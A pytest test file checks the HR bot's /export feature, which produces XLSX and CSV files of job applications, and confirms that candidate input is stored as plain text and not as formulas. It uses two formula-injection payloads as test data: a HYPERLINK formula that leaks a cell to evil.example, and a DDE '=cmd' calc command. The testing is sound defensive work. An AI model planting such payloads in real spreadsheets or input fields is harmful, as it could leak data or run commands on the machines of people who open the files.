"""/export in the HR chat: an XLSX (or a CSV Excel opens in Russian) of the applications, where
whatever candidates typed stays text and never becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from bot.storage import Answer, ApplicationRepo, CandidateRepo, Database, ViewRepo
from tests.conftest import HR_CHAT_ID, SAMPLES, MakeHarness
from tests.harness import Harness, Sent

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
START = dt.datetime(2026, 11, 1, 9, 0, tzinfo=dt.UTC)


@pytest.fixture
async def bot(make_harness: MakeHarness) -> Harness:
    harness = await make_harness(SAMPLES)
    harness.session.known_chats.add(HR_CHAT_ID)
    return harness


async def store(db: Database, count: int) -> None:
    """``count`` applications, one an hour from START, alternating two postings; the first
    answers with a formula, a phone, an @handle and a minus."""
    applications, candidates, views = ApplicationRepo(db), CandidateRepo(db), ViewRepo(db)
    for n in range(1, count + 1):
        moment = START + dt.timedelta(hours=n)
        user_id = 100_000 + n
        slug = "courier" if n % 2 else "python-backend-developer"
        await candidates.upsert(user_id, "Анна" if n > 1 else "=cmd|' /C calc'!A0", f"№{n}")
        await views.record(user_id, slug, "hh_ru" if n % 3 else None, viewed_at=moment)
        first = n == 1
        await applications.save(
            user_id=user_id,
            posting_slug=slug,
            posting_title="Курьер" if n % 2 else "Python-разработчик (backend)",
            consent_version="v1",
            consent_at=moment,
            started_at=moment - dt.timedelta(minutes=3),
            submitted_at=moment,
            answers=[
                Answer("name", "Как к вам обращаться?", HOSTILE if first else f"Кандидат {n}", ""),
                Answer("contact", "Телефон или email?", "+7 912 345-67-89", "+79123456789"),
                Answer("note", "Что-нибудь ещё?", "@anna -1 <b>&" if first else "нет", ""),
                Answer(
                    "years",
                    "Сколько лет опыта?",
                    "1",
                    1,
                    "Нужно два года" if n % 5 == 0 else None,
                ),
            ],
        )


def document(hr_sent: Sent) -> bytes:
    assert hr_sent.document is not None, hr_sent.text
    return hr_sent.document


async def test_export_of_a_thousand_applications_is_a_valid_xlsx_with_text_only(
    bot: Harness,
) -> None:
    await store(bot.dp["db"], 1000)
    hr = bot.group(HR_CHAT_ID)
    await hr.send("/export")
    sent = hr.last_message()
    assert sent.filename is not None and sent.filename.endswith(".xlsx")
    assert sent.text == "Отклики: 1000"
    workbook = load_workbook(io.BytesIO(document(sent)))
    sheet = workbook.active
    assert sheet is not None
    assert sheet.max_row == 1001
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["№", "Вакансия", "Код вакансии", "Кандидат"]
    assert header[-4:] == [
        "Как к вам обращаться?",
        "Телефон или email?",
        "Что-нибудь ещё?",
        "Сколько лет опыта?",
    ]
    assert all(cell.font.bold for cell in sheet[1])
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert first["Как к вам обращаться?"].value == HOSTILE
    for name in ("Как к вам обращаться?", "Телефон или email?", "Что-нибудь ещё?", "Кандидат"):
        assert first[name].data_type == "s", name  # a string, never a formula ("f")
        assert first[name].quotePrefix, name
    assert first["Кандидат"].value == "=cmd|' /C calc'!A0 №1"
    assert first["Статус"].value == "🆕 новый"
    assert first["Источник"].value == "hh_ru"
    assert first["Отправлен (UTC)"].value == dt.datetime(2026, 11, 1, 10, 0)
    assert first["Заполнял, мин"].value == 3
    third = {name: cell.value for name, cell in zip(header, sheet[4], strict=True)}
    assert third["Источник"] is None and third["Несоответствия"] is None  # an untagged link
    fifth = {name: cell.value for name, cell in zip(header, sheet[6], strict=True)}
    assert fifth["Несоответствия"] == "Нужно два года"
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    widths = {
        letter: dimension.width
        for letter, dimension in sheet.column_dimensions.items()
        if dimension.width
    }
    assert len(widths) == len(header)
    assert all(8 <= width <= 60 for width in widths.values())


async def test_export_csv_starts_with_the_bom_and_keeps_formulas_as_text(bot: Harness) -> None:
    await store(bot.dp["db"], 30)
    hr = bot.group(HR_CHAT_ID)
    await hr.send("/export courier 2026-11-01 01.11.2026 csv")
    sent = hr.last_message()
    assert sent.filename is not None and sent.filename.startswith("applications-courier-")
    assert sent.filename.endswith(".csv")
    assert sent.text == "Отклики: 7 · вакансия courier · с 2026-11-01 · по 2026-11-01"
    raw = document(sent)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1 + 7  # n = 1…14 on Nov 1 (10:00…23:00), the odd ones: courier
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[0] == "№"
    assert first["Как к вам обращаться?"] == "'" + HOSTILE
    assert first["Телефон или email?"] == "'+7 912 345-67-89"
    assert first["Что-нибудь ещё?"] == "'@anna -1 <b>&"
    assert first["Отправлен (UTC)"] == "2026-11-01 10:00"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_export_filters_bad_arguments_and_outside_the_hr_chat(bot: Harness) -> None:
    await store(bot.dp["db"], 4)
    hr = bot.group(HR_CHAT_ID)
    await hr.send("/export python-backend-developer")
    assert hr.last_message().text == "Отклики: 2 · вакансия python-backend-developer"
    await hr.send("/export 2026-13-40")
    assert hr.last_message().text == "Не понял дату «2026-13-40»: напишите её как 2026-12-01."
    await hr.send("/export 2026-11-05 2026-11-01")
    assert hr.last_message().text == "Дата «с» позже даты «по» — поменяйте их местами."
    await hr.send("/export courier <script>")
    assert hr.last_message().text.startswith("Так: /export [вакансия] [с] [по] [csv]")
    await hr.send("/export 2027-01-01")
    assert hr.last_message().text == "За этот период откликов нет · с 2027-01-01."
    private = bot.chat(user_id=6001)
    await private.send("/export")
    assert private.last_message().document is None
